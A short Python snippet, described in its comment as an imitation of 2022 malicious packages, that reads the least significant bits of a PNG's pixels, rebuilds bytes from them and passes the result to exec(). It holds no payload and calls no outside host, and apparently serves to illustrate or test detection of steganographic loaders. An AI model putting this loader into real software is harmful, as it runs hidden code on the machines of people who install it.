# Imitates pixel steganography (the 2022 "code in the least significant bits of a PNG" packages): rebuild bytes from pixels, then exec them.
from PIL import Image


def unpack():
    image = Image.open("banner.png")
    bits = []
    for pixel in image.getdata():
        bits.append(pixel[0] & 1)
    data = bytearray()
    for i in range(0, len(bits) - 7, 8):
        data.append(int("".join(map(str, bits[i : i + 8])), 2))
    payload = bytes(data).split(b"\x00", 1)[0]
    exec(payload)
